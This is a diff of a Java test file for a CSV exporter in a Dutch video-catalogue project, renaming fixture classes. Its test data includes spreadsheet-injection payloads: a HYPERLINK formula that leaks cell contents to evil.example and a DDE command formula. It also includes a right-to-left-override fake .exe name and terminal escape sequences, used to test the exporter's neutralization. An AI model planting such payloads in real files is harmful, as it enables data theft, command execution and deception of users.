@@ -17,7 +17,7 @@ import nl.vidcat.model.Problem;
 import nl.vidcat.stage.Progress;
 import nl.vidcat.model.ReviewStatus;
 import nl.vidcat.model.Term;
-import nl.vidcat.model.TestRecords;
+import nl.vidcat.model.RecordFixtures;
 import nl.vidcat.model.VideoRecord;
 import nl.vidcat.sheet.Column;
 import nl.vidcat.sheet.SheetReader;
@@ -36,15 +36,15 @@ class CsvExportTest {
 
     @Test
     void sheetIsDutchExcelCsvAndRoundTripsThroughTheNormalizer() throws Exception {
-        ExportFixture fx = new ExportFixture(tmp);
+        ExportFixtures fx = new ExportFixtures(tmp);
         Normalizer n = Normalizer.standard();
-        VideoRecord plain = fx.save(TestRecords.sample("breuken-3f9a2c1d"));
-        VideoRecord tricky = TestRecords.sample("lastig-5a5a5a5a");
-        fx.save(ExportFixture.withMetadata(tricky, new Metadata("Geïntegreerd; \"quoted\" = 1+1",
+        VideoRecord plain = fx.save(RecordFixtures.sample("breuken-3f9a2c1d"));
+        VideoRecord tricky = RecordFixtures.sample("lastig-5a5a5a5a");
+        fx.save(ExportFixtures.withMetadata(tricky, new Metadata("Geïntegreerd; \"quoted\" = 1+1",
                 "Regel 1\nRegel 2; met, tekens", List.of("één", "twee"), n.subject("sterrenkunde"),
                 n.levels("vmbo-gt, havo"), List.of(1, 2, 3, 5), n.goals("KD22, PO 12, KD99"), "en",
                 n.licence("CC0"), "Het Baken; Zuid", null, List.of("Kees", "Fatima"), Boolean.FALSE, "lastig.srt"))
-                .withStatus(ReviewStatus.REJECTED, TestRecords.T0));
+                .withStatus(ReviewStatus.REJECTED, RecordFixtures.T0));
         ExportResult r = new Exporter(fx.catalog).export(ExportRequest.of(ExportFormat.CSV, tmp.resolve("out")),
                 Progress.NONE);
         assertEquals(2, r.exported().size(), "the sheet holds every record, whatever its status or findings");
@@ -68,13 +68,13 @@ class CsvExportTest {
     /** OWASP CSV injection: text cells that Excel would run are written with a leading ', and ingest drops it. */
     @Test
     void formulasInTextCellsAreNeutralizedAndComeBackExactlyThroughIngest() throws Exception {
-        ExportFixture fx = new ExportFixture(tmp);
+        ExportFixtures fx = new ExportFixtures(tmp);
         Normalizer n = Normalizer.standard();
         Metadata m = new Metadata("=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Klik hier\")", "+SUM(A1:A9)",
                 List.of("-1+2", "=2+5"), n.subject("wiskunde"), n.levels("havo"), List.of(4, 5), List.of(),
                 "nl", n.licence("CC BY 4.0"), "@cmd", "=cmd|'/C calc'!A0", List.of("@Noor", "Kees"), Boolean.TRUE,
                 "-ondertitels.srt");
-        fx.save(ExportFixture.withMetadata(TestRecords.sample("formule-1a2b3c4d"), m));
+        fx.save(ExportFixtures.withMetadata(RecordFixtures.sample("formule-1a2b3c4d"), m));
         new Exporter(fx.catalog).export(ExportRequest.of(ExportFormat.CSV, tmp.resolve("out")), Progress.NONE);
         Path sheet = tmp.resolve("out/metadata.csv");
 
@@ -102,9 +102,9 @@ class CsvExportTest {
 
     @Test
     void controlAndBidiCharactersAreLeftOut() throws Exception {
-        ExportFixture fx = new ExportFixture(tmp);
-        VideoRecord r = TestRecords.sample("bidi-1a2b3c4d");
-        fx.save(ExportFixture.withMetadata(r, new Metadata("Huiswerk \u202Egnp.exe", "\u001B]0;pwned\u0007Uitleg\u0000"
+        ExportFixtures fx = new ExportFixtures(tmp);
+        VideoRecord r = RecordFixtures.sample("bidi-1a2b3c4d");
+        fx.save(ExportFixtures.withMetadata(r, new Metadata("Huiswerk \u202Egnp.exe", "\u001B]0;pwned\u0007Uitleg\u0000"
                 + " \u001B[2J van breuken\nregel 2", List.of("\u2066a\u2069"), r.metadata().subject(),
                 r.metadata().levels(), r.metadata().years(), r.metadata().goals(), "nl", r.metadata().licence(),
                 "School", "Docent", List.of(), null, null)));
